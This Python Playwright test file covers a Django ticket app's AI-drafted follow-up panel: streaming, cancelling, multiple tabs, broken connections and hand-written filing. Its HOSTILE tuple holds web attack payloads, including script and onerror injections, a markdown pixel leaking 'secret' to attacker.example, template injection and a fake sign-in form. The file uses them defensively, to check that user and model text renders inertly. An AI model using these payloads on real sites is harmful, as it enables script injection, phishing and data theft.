"""The side panel in a real browser: it shows the draft as it grows, can be stopped, and ends at the row's truth."""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.utils import timezone
from playwright.sync_api import Page, expect

from receipts.standin import StandIn
from tests.browser.conftest import Opener
from tests.browser.test_press import NOTES, filed, panel, press, rows
from tests.flow.provider import Provider, completion
from tickets.models import Message, Ticket

TICKET = "/tickets/TCK-1008"

#: Records every state that the panel passes through, with what stood in the summary; marks that a draft was lost sight
#: of.
WATCH = """() => {
  window.seen = [];
  const panel = document.getElementById("panel");
  const summary = () => document.getElementById("panel-summary")?.textContent || "";
  const look = () => {
    const { state } = panel.dataset;
    if (state === "checking" && window.seen.some(([before]) => before === "drafting")) document.body.dataset.lost = "";
    window.seen.push([state, summary()]);
  };
  new MutationObserver(look).observe(panel, { attributes: true, childList: true, characterData: true, subtree: true });
}"""


@pytest.fixture
def gated(desk: StandIn, settings: Any) -> Iterator[Provider]:
    """A provider that answers when the test says so."""
    provider = Provider()
    provider.answer = lambda request: (200, completion(answer_to(request)))
    provider.gate.clear()
    settings.COMPLETIONS_URL = provider.url
    settings.COMPLETIONS_STREAM = False
    settings.THROTTLE_PRESSES = "none"
    settings.FILL_BUDGET_SECONDS, settings.ATTEMPT_DEADLINE_SECONDS = 60.0, 90.0  # a busy machine opens pages slowly
    yield provider
    provider.close()


def answer_to(
    request: dict[str, Any], summary: str = "Explain the two certificates to the auditors."
) -> dict[str, str]:
    text = "".join(message["content"] for message in request["messages"])
    ticket = next(word for word in text.replace('"', " ").split() if word.startswith("TCK-"))
    return {"ticket_id": ticket, "summary": summary, "assignee": "ada"}


@pytest.fixture
def hang_up(live_server: Any) -> Iterator[Callable[[], None]]:
    """Breaks every connection that the web process has answered on so far, in the middle of whatever it says."""
    server, taken = live_server.thread.httpd, []
    answer = server.process_request

    def remembering(request: socket.socket, address: Any) -> None:
        taken.append(request)
        answer(request, address)

    def break_all() -> None:
        for connection in taken:
            with contextlib.suppress(OSError):  # it has ended already
                connection.shutdown(socket.SHUT_RDWR)
        taken.clear()

    server.process_request = remembering
    yield break_all
    del server.process_request


def test_fields_fill_while_the_model_writes_and_say_that_they_are_a_draft(open_page: Opener) -> None:
    page = open_page("lead", TICKET)
    page.evaluate(WATCH)
    press(page)
    panel(page, "filed")
    final = page.locator("#panel-summary").text_content() or ""
    drafts = [text for state, text in page.evaluate("window.seen") if state == "drafting" and text]
    assert len(set(drafts)) > 3, "it grew in steps"
    assert all(final.startswith(text.rstrip()) for text in drafts)
    assert "filed" not in [state for state, text in page.evaluate("window.seen") if text != final]


def test_says_who_will_see_it_before_and_after(open_page: Opener) -> None:
    page = open_page("lead", TICKET)
    expect(page.get_by_role("button", name="Draft follow-up and file it")).to_contain_text("only your team sees it")
    press(page)
    panel(page, "filed")
    expect(page.locator("#panel-audience")).to_have_text("Internal: only your team sees it")


class TestCancel:
    def test_ends_the_draft_and_files_nothing_until_pressed_again(self, open_page: Opener, gated: Provider) -> None:
        page = open_page("lead", TICKET)
        press(page)
        page.get_by_role("button", name="Cancel, file nothing").click()
        panel(page, "not_filed")
        expect(page.locator("#panel-sentence")).to_have_text("This was cancelled before it was filed.")
        expect(page.locator("#panel-cancel")).to_be_hidden()
        assert rows("SELECT status, error_code FROM tool_receipts") == [("failed", "cancelled")]
        assert page.get_by_label("Notes for the follow-up").input_value() == NOTES
        gated.gate.set()
        page.get_by_role("button", name="Press again, same receipt").click()
        panel(page, "filed")
        assert rows("SELECT status, attempt FROM tool_receipts") == [("applied", 2)]
        assert filed() == 1

    def test_by_keyboard_the_focus_is_not_lost(self, open_page: Opener, gated: Provider) -> None:
        page = open_page("lead", TICKET)
        press(page)
        page.get_by_role("button", name="Cancel, file nothing").focus()
        page.keyboard.press("Enter")
        panel(page, "not_filed")
        assert page.evaluate("document.getElementById('panel').contains(document.activeElement)")
        page.locator("#panel-retry button").focus()
        page.keyboard.press("Enter")
        expect(page.locator("#panel-retry")).to_be_hidden()
        assert page.evaluate("document.getElementById('panel').contains(document.activeElement)")

    def test_too_late_ends_at_the_row(self, open_page: Opener, gated: Provider) -> None:
        page = open_page("lead", TICKET)
        page.route(
            "**/cancel",
            lambda route: route.fulfill(
                status=409,
                content_type="application/problem+json",
                body='{"status": 409, "code": "already_settled", "detail": "It was settled before."}',
            ),
        )
        press(page)
        page.get_by_role("button", name="Cancel, file nothing").click()
        expect(page.locator("#panel-cancel-said")).to_have_text("It was settled before.")
        gated.gate.set()
        panel(page, "filed")

    def test_offline_is_not_called_cancelled(self, open_page: Opener, gated: Provider) -> None:
        page = open_page("lead", TICKET)
        press(page)
        expect(page.locator("#panel-cancel")).to_be_visible()
        page.route("**/cancel", lambda route: route.abort())
        page.get_by_role("button", name="Cancel, file nothing").click()
        expect(page.locator("#panel-cancel-said")).to_contain_text("Not confirmed whether it was cancelled")
        assert rows("SELECT status FROM tool_receipts") == [("pending",)]

    def test_without_script_it_is_on_the_receipts_page(self, open_page: Opener, gated: Provider) -> None:
        page = open_page("lead", TICKET)
        press(page)
        address = page.locator("#panel-receipt a").get_attribute("href")
        plain = open_page("lead", str(address), java_script_enabled=False)
        plain.get_by_role("button", name="Cancel, file nothing").click()
        expect(plain.locator("#verdict .slip-state")).to_contain_text("Not filed")
        panel(page, "not_filed")


class TestManyTabs:
    def test_a_second_tab_follows_the_first_ones_press(self, open_page: Opener, gated: Provider) -> None:
        first = open_page("lead", TICKET)
        press(first)
        expect(first.locator("#panel-receipt a")).to_be_visible()
        second = first.context.new_page()
        second.goto(TICKET)
        panel(second, "drafting")
        gated.gate.set()
        panel(first, "filed")
        panel(second, "filed")
        assert filed() == 1

    def test_and_may_cancel_it(self, open_page: Opener, gated: Provider) -> None:
        first = open_page("lead", TICKET)
        press(first)
        expect(first.locator("#panel-receipt a")).to_be_visible()
        second = first.context.new_page()
        second.goto(TICKET)
        second.get_by_role("button", name="Cancel, file nothing").click()
        panel(second, "not_filed")
        panel(first, "not_filed")
        expect(first.locator("#panel-sentence")).to_have_text("This was cancelled before it was filed.")

    def test_and_may_go_on_with_one_that_failed(self, open_page: Opener) -> None:
        first = open_page("lead", TICKET)
        press(first, f"{NOTES} standin: provider_unavailable once")
        panel(first, "not_filed")
        second = first.context.new_page()
        second.goto(TICKET)
        second.get_by_role("button", name="Press again, same receipt").click()
        panel(second, "filed")
        assert rows("SELECT status, attempt FROM tool_receipts") == [("applied", 2)]

    def test_seven_of_them_press_at_once(self, open_page: Opener, gated: Provider) -> None:
        """A browser opens six connections to a host: seven streams would leave none for the seventh press."""
        numbers = Ticket.objects.filter(status="open").order_by("id").values_list("pk", flat=True)[:7]
        first = open_page("lead", f"/tickets/{numbers[0]}")
        tabs = [first, *(first.context.new_page() for _ in range(6))]
        for tab, number in zip(tabs, numbers, strict=True):
            tab.goto(f"/tickets/{number}")
        for tab, number in zip(tabs, numbers, strict=True):
            press(tab, f"Notes for {number}: call back, please.")
        for tab in tabs:
            expect(tab.locator("#panel-receipt a")).to_be_visible()
        assert rows("SELECT count(*) FROM tool_receipts WHERE status = 'pending'") == [(7,)]
        paused = [tab.locator("#panel-paused").is_visible() for tab in tabs]
        assert sum(paused) == 3, "four places for live drafts"
        tabs[-1].get_by_label("Notes for the follow-up").fill("The next thing")
        expect(tabs[-1].locator("#press .notes-saved")).to_contain_text("Saved")
        gated.gate.set()
        for tab in tabs:
            panel(tab, "filed")
        assert rows("SELECT count(*) FROM tool_receipts WHERE status = 'applied'") == [(7,)]


class TestBrokenLines:
    def test_a_dropped_socket_ends_at_the_row(
        self, open_page: Opener, gated: Provider, hang_up: Callable[[], None]
    ) -> None:
        page = open_page("lead", TICKET)
        page.evaluate(WATCH)
        press(page)
        expect(page.locator("#panel-receipt a")).to_be_visible()
        hang_up()
        expect(page.locator("body")).to_have_attribute("data-lost", "")
        gated.gate.set()
        panel(page, "filed")
        assert (filed(), gated.calls) == (1, 1)

    def test_a_line_that_fell_silent_is_hung_up(self, open_page: Opener, gated: Provider) -> None:
        """As after a laptop's sleep: nothing says that the other end is gone."""
        page = open_page("lead", "/")
        page.clock.install()
        page.goto(TICKET)
        page.route("**/followups", lambda route: None, times=1)  # never answered
        press(page)
        expect(page.locator("#panel-words")).to_have_text("Not confirmed yet — checking")
        assert rows("SELECT count(*) FROM tool_receipts") == [(0,)]
        gated.gate.set()
        page.clock.fast_forward(26_000)
        page.clock.fast_forward(2_000)
        panel(page, "filed")
        assert filed() == 1

    def test_a_press_offline_is_neither_sent_nor_failed(self, open_page: Opener) -> None:
        page = open_page("lead", TICKET)
        page.context.set_offline(True)
        press(page)
        expect(page.locator("#panel-words")).to_have_text("Not confirmed yet — checking")
        assert rows("SELECT count(*) FROM tool_receipts") == [(0,)]
        page.context.set_offline(False)
        panel(page, "filed")
        assert filed() == 1

    def test_back_after_filing_shows_the_receipt_and_presses_anew(self, open_page: Opener) -> None:
        page = open_page("lead", TICKET)
        press(page)
        panel(page, "filed")
        page.locator("#panel-receipt a").click()
        expect(page.get_by_role("heading", level=1)).to_contain_text("was filed on TCK-1008")
        page.go_back()
        panel(page, "filed")
        button = page.get_by_role("button", name="Draft follow-up and file it")
        expect(button).not_to_have_attribute("aria-disabled", "true")
        press(page, "Other notes, for grace.")
        panel(page, "drafting")
        panel(page, "filed")
        assert filed() == 2


class TestByHand:
    def test_is_offered_where_the_provider_fails_and_ends_filed(self, open_page: Opener, gated: Provider) -> None:
        gated.fails(503)
        gated.gate.set()
        page = open_page("lead", TICKET)
        press(page)
        panel(page, "not_filed")
        calls = gated.calls
        page.get_by_role("link", name="write it by hand").click()
        summary = page.locator("#by-hand-followups").get_by_label("Summary")
        expect(summary).to_be_focused()
        summary.fill("short")
        page.get_by_role("button", name="File it as written").click()
        expect(page.locator("#followups-summary-error")).to_have_text("Has 5 characters; at least 12 are needed.")
        expect(page.locator("#followups-assignee-error")).to_have_text("Is missing.")
        expect(summary).to_be_focused()
        assert rows("SELECT count(*) FROM tool_receipts") == [(1,)]
        summary.fill("Call Henrik about the certificate.")
        page.get_by_label("Assignee").select_option("ada")
        page.evaluate(WATCH)
        page.get_by_role("button", name="File it as written").click()
        panel(page, "filed")
        assert "drafting" not in [state for state, _ in page.evaluate("window.seen")], "nobody drafts"
        expect(page.locator("#panel-draft-label")).to_have_text("Filed on TCK-1008, written by hand")
        expect(summary).to_have_value("")
        assert (filed(), gated.calls) == (1, calls)
        assert page.get_by_label("Notes for the follow-up").input_value() == NOTES, "they were not what was filed"

    def test_what_was_written_survives_reload_and_outage(self, open_page: Opener) -> None:
        page = open_page("lead", f"{TICKET}?by_hand=followups")
        summary = page.locator("#by-hand-followups").get_by_label("Summary")
        summary.fill("Call Henrik about the certificate.")
        page.reload()
        expect(summary).to_have_value("Call Henrik about the certificate.")
        page.get_by_label("Assignee").select_option("ada")
        page.context.set_offline(True)
        page.get_by_role("button", name="File it as written").click()
        expect(page.locator("#panel-sentence")).to_contain_text("nothing was sent")
        page.context.set_offline(False)
        page.locator("#panel-retry button").click()
        panel(page, "filed")
        assert filed() == 1

    def test_a_double_click_files_once(self, open_page: Opener) -> None:
        page = open_page("lead", f"{TICKET}?by_hand=followups")
        page.locator("#by-hand-followups").get_by_label("Summary").fill("Call Henrik about the certificate.")
        page.get_by_label("Assignee").select_option("ada")
        page.get_by_role("button", name="File it as written").dblclick()
        panel(page, "filed")
        assert filed() == 1

    def test_signed_out_it_waits(self, open_page: Opener) -> None:
        page = open_page("lead", f"{TICKET}?by_hand=followups")
        summary = page.locator("#by-hand-followups").get_by_label("Summary")
        summary.fill("Call Henrik about the certificate.")
        page.context.clear_cookies(name="sessionid")
        page.get_by_role("button", name="File it as written").click()
        expect(page.locator("#panel-sentence")).to_contain_text("Signed out")
        expect(summary).to_have_value("Call Henrik about the certificate.")


#: What people, mail clients and models write. None of it may become more than text.
HOSTILE = (
    "<script>window.broken = 1</script>",
    "<img src=http://attacker.example/a.png onerror='window.broken = 1'>",
    "![a picture](http://attacker.example/pixel.png?q=secret) [click](http://attacker.example/)",
    "http://attacker.example/ and javascript:alert(1)",
    "</script></textarea><svg onload='window.broken = 1'>",
    "{{ constructor.constructor('window.broken = 1')() }} ${window.broken = 1} {% load x %}",
    "\u202eltr ot desrever\u202c and \u2066isolated\u2069",
    "W" * 3000,
    "👩‍👩‍👧‍👦 🏴‍☠️ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🙂 é\u0301\u0323",
    "<style>*{display:none}</style><base href=http://attacker.example/>",
    '<iframe src="http://attacker.example/"></iframe><form action=http://attacker.example/><button>Sign in',
    "&lt;b&gt;not bold&lt;/b&gt; &#60;script&#62;",
)


class TestHostileText:
    def test_in_a_ticket_is_shown_letter_by_letter(self, open_page: Opener) -> None:
        for text in HOSTILE:
            Message.objects.create(
                ticket_id="TCK-1008", author="requester", author_name=text[:80], body=text, created_at=timezone.now()
            )
        Ticket.objects.filter(pk="TCK-1008").update(subject=HOSTILE[1], requester_name=HOSTILE[0])
        page, asked = watched(open_page)
        page.set_viewport_size({"width": 320, "height": 640})
        page.goto(TICKET)
        bodies = page.locator("#turns .turn-body").all_text_contents()
        assert bodies[-len(HOSTILE) :] == list(HOSTILE)
        assert page.locator(".turn-body *, h1 *, .turn-head strong *").count() == 0
        expect(page.get_by_role("heading", level=1)).to_have_text(HOSTILE[1])
        assert page.evaluate("document.documentElement.scrollWidth") <= 320
        harmless(page, asked)

    @pytest.mark.parametrize("text", [HOSTILE[n] for n in (0, 1, 2, 4, 8, 9)])
    def test_of_a_model_is_shown_letter_by_letter(self, open_page: Opener, gated: Provider, text: str) -> None:
        gated.answer = lambda request: (200, completion(answer_to(request, f"Look: {text}")))
        gated.gate.set()
        page, asked = watched(open_page)
        page.goto(TICKET)
        press(page, f"Hostile notes as well: {text}")
        panel(page, "filed")
        assert page.locator("#panel-summary").text_content() == f"Look: {text}"
        assert page.locator("#panel-fields dd *").count() == 0
        expect(page.locator("#followups .followup-summary")).to_have_text(f"Look: {text}")
        page.reload()
        assert page.locator("#panel-summary").text_content() == f"Look: {text}"
        assert page.locator("#panel-fields dd *, .followup-summary *").count() == 0
        page.locator("#panel-receipt a").click()
        assert page.locator(".fields dd *").count() == 0
        harmless(page, asked)

    def test_in_notes_comes_back_as_it_was(self, open_page: Opener) -> None:
        text = "\n".join(part for part in HOSTILE if len(part) < 1000)
        page, asked = watched(open_page)
        page.goto(TICKET)
        page.get_by_label("Notes for the follow-up").fill(text)
        expect(page.locator("#press .notes-saved")).to_contain_text("Saved")
        page.reload()
        expect(page.get_by_label("Notes for the follow-up")).to_have_value(text)
        other = page.context.new_page()
        other.goto(TICKET)
        other.get_by_label("Notes for the follow-up").fill("Others")
        expect(other.locator("#press .notes-saved")).to_contain_text("Saved")
        page.get_by_label("Notes for the follow-up").fill("Mine")
        expect(page.locator("#press .notes-others-text")).to_have_text("Others")
        harmless(page, asked)


def watched(open_page: Opener) -> tuple[Page, list[str]]:
    """A page, and every address that it asks for."""
    page = open_page("lead", "/")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog://{dialog.message}/"))
    return page, asked


def harmless(page: Page, asked: list[str]) -> None:
    own = page.url.split("/")[2]
    assert {address for address in asked if address.split("/")[2] != own} == set()
    assert page.evaluate("window.broken") is None
    assert page.locator("main img, main iframe, main script:not([type='application/json'])").count() == 0
    assert page.locator("a[href*='attacker']").count() == 0
